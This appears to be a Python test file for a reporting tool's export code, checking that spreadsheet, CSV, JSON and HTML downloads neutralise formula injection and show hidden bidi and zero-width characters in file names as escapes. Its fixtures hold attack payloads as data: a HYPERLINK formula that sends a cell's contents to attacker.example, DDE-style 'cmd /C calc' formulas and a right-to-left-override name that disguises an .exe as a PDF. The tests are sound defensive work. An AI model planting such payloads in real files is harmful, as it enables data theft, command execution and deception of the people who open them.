"""Formula injection in downloads and invisible characters in file names (issue 13, classes 6 and 9).

Hostile values arrive as source ids (a source's id is its file name by default) and record ids; they reach the
scorecard's scores.xlsx / scores.csv / scores.json / index.html and the stewards' review queue. Every spreadsheet
cell a spreadsheet would evaluate must be plain text starting with a quote, no cell may be a formula or a
hyperlink, numbers must stay numbers, and bidi/zero-width characters must show as visible escapes.
"""

from __future__ import annotations

import csv
import io
import json
import sys
import zipfile
from pathlib import Path

import openpyxl
import polars as pl
import pytest

from sachsong.matching.review import read_decision_file, write_review
from sachsong.reports import exports
from sachsong.reports.scores import compute_scores
from sachsong.reports.site import build_report
from sachsong.safetext import neutralize_formula, visible_controls

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "reports"))
import reports_sample  # the reports tests' hand-made store

# Values spreadsheets evaluate (OWASP CSV injection), and their neighbours.
FORMULAS = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"bấm")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "  =1+1",  # after leading spaces
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # fullwidth equals sign
    "－1",
    "＠x",
    "＋1",
]
HARMLESS = ["http://attacker.example/phish", "mailto:a@b.example", "1e5", "0044", "a=b", "ho_khau-01"]
# File names with a right-to-left override and zero-width characters (the override makes "fdp.exe" read "exe.pdf").
RLO_NAME = "bao_cao_\u202efdp.exe"
ZERO_WIDTH_NAME = "ho\u200btich\u200d\ufeff.csv"
SOURCE_IDS = [*FORMULAS, *HARMLESS, RLO_NAME, ZERO_WIDTH_NAME]


def _hostile_records() -> pl.DataFrame:
    count = len(SOURCE_IDS)
    return pl.DataFrame(
        {
            "row_uid": list(range(count)),
            "record_id": [f"R-{i:04d}" if i % 3 else FORMULAS[i % len(FORMULAS)] for i in range(count)],
            "source_id": SOURCE_IDS,
            "source_row": [i + 1 for i in range(count)],
            "full_name": ["Trần Văn An"] * count,
            "citizen_id": ["044200000001"] * count,
            "phone": [None] * count,
            "address": ["Thôn Một"] * count,
            "ward_code": ["18859"] * count,
            "province_code": [reports_sample.PROVINCE] * count,
        }
    )


def _hostile_findings(records: pl.DataFrame) -> pl.DataFrame:
    # Every record fails one rule, so every hostile source and record id reaches the drill-down too.
    return records.select(
        "row_uid",
        "record_id",
        "source_id",
        pl.lit("updated_within_sla").alias("rule_id"),
        pl.lit("live").alias("criterion"),
        pl.lit("error").alias("severity"),
        pl.lit("stale").alias("message"),
        pl.lit("2019-01-01").alias("value"),
    )


@pytest.fixture
def hostile_site(tmp_path, monkeypatch) -> Path:
    records = _hostile_records()
    findings = _hostile_findings(records)
    monkeypatch.setattr(reports_sample, "make_records", lambda: records)
    monkeypatch.setattr(reports_sample, "make_findings", lambda: findings)
    history = compute_scores(
        records, findings, "run-3", "2026-11-04", reports_sample.PROVINCE, wards=reports_sample.WARDS
    )
    store = reports_sample.write_store(
        tmp_path / "store", [reports_sample.run_row("run-3", 4)], history, "run-3"
    )
    out = tmp_path / "site"
    build_report(store, out)
    return out


def _starts_formula(text: str) -> bool:
    stripped = text.lstrip()
    return bool(text) and (text[0] in "\t\r\n" or (bool(stripped) and stripped[0] in "=+-@＝＋－＠"))


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_scores_workbook_has_no_formula_no_hyperlink_and_quoted_text(hostile_site):
    workbook = openpyxl.load_workbook(hostile_site / "scores.xlsx")
    seen_sources: set[str] = set()
    numbers = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                assert cell.hyperlink is None, f"{sheet.title}!{cell.coordinate} is a hyperlink"
                if cell.data_type == "n" and isinstance(cell.value, int | float):
                    numbers += 1
                if isinstance(cell.value, str):
                    assert not _starts_formula(cell.value), f"{sheet.title}!{cell.coordinate} not quoted"
                    seen_sources.add(cell.value)
    assert numbers > 20  # counts and shares are still numbers, not text
    # Each hostile source id is listed, quoted; the harmless ones unchanged.
    for value in FORMULAS:
        assert neutralize_formula(visible_controls(value)) in seen_sources
    for value in HARMLESS:
        assert value in seen_sources
    # The xlsx holds no formula element and no hyperlink relationship at all (beyond conditional formats).
    with zipfile.ZipFile(hostile_site / "scores.xlsx") as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        for name in sheets:
            xml = archive.read(name).decode("utf-8")
            assert "<f>" not in xml and "<hyperlink" not in xml
        assert not any("hyperlink" in archive.read(n).decode("utf-8", "replace") for n in archive.namelist())


def test_scores_csv_cells_that_a_spreadsheet_evaluates_start_with_a_quote(hostile_site):
    for name in ("scores.csv", "trend.csv", "runs.csv"):
        text = (hostile_site / name).read_text(encoding="utf-8-sig")
        for row in csv.reader(io.StringIO(text, newline="")):
            for cell in row:
                # A plain number ("-0.25", a negative change) is a number to a spreadsheet, not a formula.
                assert _is_number(cell) or not _starts_formula(cell), f"{name}: a cell starts a formula"
    scores = pl.read_csv(hostile_site / "scores.csv", infer_schema=False)
    keys = set(scores.get_column("key").drop_nulls())
    for value in FORMULAS:
        assert neutralize_formula(visible_controls(value)) in keys
    assert set(HARMLESS) <= keys
    shares = scores.get_column("share").drop_nulls()
    assert shares.len() and shares.cast(pl.Float64).len() == shares.len()


def test_csv_negative_numbers_stay_numbers_and_text_is_quoted(tmp_path):
    scores = pl.DataFrame({"key": ["-0.25", "=1", "a"], "change": [-0.25, -1.0, 0.5], "records": [-3, 0, 2]})
    empty = pl.DataFrame()
    tables = exports.ExportTables(empty, empty, empty, empty, empty, empty, scores)
    exports.write_csvs(tmp_path, tables)
    rows = list(csv.reader(io.StringIO((tmp_path / "scores.csv").read_text(encoding="utf-8-sig"), newline="")))
    assert rows[1:] == [["'-0.25", "-0.25", "-3"], ["'=1", "-1.0", "0"], ["a", "0.5", "2"]]


def test_bidi_and_zero_width_file_names_show_as_visible_escapes(hostile_site):
    html = (hostile_site / "index.html").read_text(encoding="utf-8")
    texts = [html, (hostile_site / "scores.json").read_text(encoding="utf-8")]
    texts.append((hostile_site / "scores.csv").read_text(encoding="utf-8-sig"))
    with zipfile.ZipFile(hostile_site / "scores.xlsx") as archive:
        texts.extend(archive.read(n).decode("utf-8") for n in archive.namelist() if n.endswith(".xml"))
    for text in texts:
        for invisible in ("\u202e", "\u200b", "\u200d", "\ufeff"):
            assert invisible not in text
    assert "bao_cao_\\u202efdp.exe" in html
    assert "ho\\u200btich\\u200d\\ufeff.csv" in html
    payload = json.loads(texts[1])
    keys = {row["key"] for row in payload["scores"]}
    assert "bao_cao_\\u202efdp.exe" in keys  # json.loads of the file gives the visible escape, not U+202E


def test_review_queue_csv_and_xlsx_are_neutralized_and_read_back_unchanged(tmp_path):
    review = pl.DataFrame(
        {
            "left_record_id": FORMULAS,
            "left_source_id": HARMLESS[:1] * len(FORMULAS),
            "right_record_id": [f"R-{i}" for i in range(len(FORMULAS))],
            "right_source_id": ["ho_tich"] * len(FORMULAS),
            "probability": [-0.5 + i / 10 for i in range(len(FORMULAS))],
            "decision": [None] * len(FORMULAS),
        }
    )
    xlsx = write_review(review, tmp_path / "review.xlsx")
    sheet = openpyxl.load_workbook(xlsx).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" and cell.hyperlink is None for cell in cells)
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert not [t for t in texts if _starts_formula(t)]
    assert "http://attacker.example/phish" in texts  # a URL stays text, not a link
    probabilities = [row[4] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert probabilities[0] == pytest.approx(-0.5) and isinstance(probabilities[0], float)

    path = write_review(review, tmp_path / "review.csv")
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
    assert all(not _starts_formula(cell) for row in rows for cell in row[:4])
    assert rows[1][4] == "-0.5"  # a negative number stays a number

    # A steward's decisions file read back gives the values as the sources wrote them.
    for written in (xlsx, path):
        back = read_decision_file(written)
        assert back.get_column("left_record_id").to_list() == FORMULAS


def test_neutralizer_neighbours():
    assert neutralize_formula("-5") == "'-5"  # text that looks like a negative number is still text
    assert neutralize_formula(-5) == -5 and neutralize_formula(-0.25) == -0.25
    assert neutralize_formula("Nguyễn-Văn") == "Nguyễn-Văn"  # a hyphen inside is harmless
    assert neutralize_formula("'=already") == "'=already"  # a leading quote is not a trigger
    assert neutralize_formula("") == "" and neutralize_formula(None) is None
    assert neutralize_formula("\u3000=1") == "'\u3000=1"  # ideographic space before '='


def test_a_failing_workbook_write_leaves_the_previous_downloads_whole(hostile_site, monkeypatch):
    before = {p.name: p.read_bytes() for p in hostile_site.iterdir() if p.is_file()}
    store = hostile_site.parent / "store"

    def disk_full(*args, **kwargs):
        raise OSError(28, "No space left on device")

    real = exports.write_text_atomically

    def half_then_full(path, text):  # the JSON is half written when the disk fills
        def write(staging):
            staging.write_bytes(text.encode("utf-8")[: len(text) // 2])
            disk_full()

        return exports.write_atomically(path, write)

    monkeypatch.setattr(exports, "write_text_atomically", half_then_full)
    with pytest.raises(OSError, match="No space"):
        build_report(store, hostile_site)
    monkeypatch.setattr(exports, "write_text_atomically", real)
    after = {p.name: p.read_bytes() for p in hostile_site.iterdir() if p.is_file()}
    assert set(after) == set(before)  # no staging file left beside them
    # The JSON being written is the old complete one; the files after it were not touched; the workbook written
    # before it is a complete one.
    assert after["scores.json"] == before["scores.json"]
    json.loads(after["scores.json"])
    for name in ("scores.csv", "trend.csv", "runs.csv", "index.html"):
        assert after[name] == before[name]
    openpyxl.load_workbook(hostile_site / "scores.xlsx")


@pytest.mark.parametrize("failing", ["workbook", "csv"])
def test_a_disk_filling_mid_file_leaves_the_old_complete_file(hostile_site, monkeypatch, failing):
    store = hostile_site.parent / "store"
    before = {p.name: p.read_bytes() for p in hostile_site.iterdir() if p.is_file()}

    def half_written(path, *args, **kwargs):
        Path(path).write_bytes(b"PK\x03\x04 half a file")
        raise OSError(28, "No space left on device")

    if failing == "workbook":
        monkeypatch.setattr(exports, "_write_workbook", half_written)
    else:
        real_write_bytes = Path.write_bytes

        def full_on_csv(self, data):
            if self.name.startswith(".scores.csv"):
                real_write_bytes(self, data[: len(data) // 2])
                raise OSError(28, "No space left on device")
            return real_write_bytes(self, data)

        monkeypatch.setattr(Path, "write_bytes", full_on_csv)
    with pytest.raises(OSError, match="No space"):
        build_report(store, hostile_site)
    monkeypatch.undo()
    after = {p.name: p.read_bytes() for p in hostile_site.iterdir() if p.is_file()}
    assert set(after) == set(before)
    target = "scores.xlsx" if failing == "workbook" else "scores.csv"
    assert after[target] == before[target]
    openpyxl.load_workbook(hostile_site / "scores.xlsx")
    pl.read_csv(hostile_site / "scores.csv")
